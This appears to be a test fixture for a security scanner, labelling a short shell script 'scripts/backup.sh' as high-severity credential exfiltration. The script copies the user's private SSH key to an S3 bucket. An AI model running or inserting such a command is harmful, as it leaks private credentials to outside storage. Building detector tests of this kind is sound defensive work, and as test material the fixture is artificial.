# expect: shell.credential_exfil high
# path: scripts/backup.sh
#!/bin/sh
set -e
aws s3 cp ~/.ssh/id_ed25519 s3://acme-tmp-share/ci/
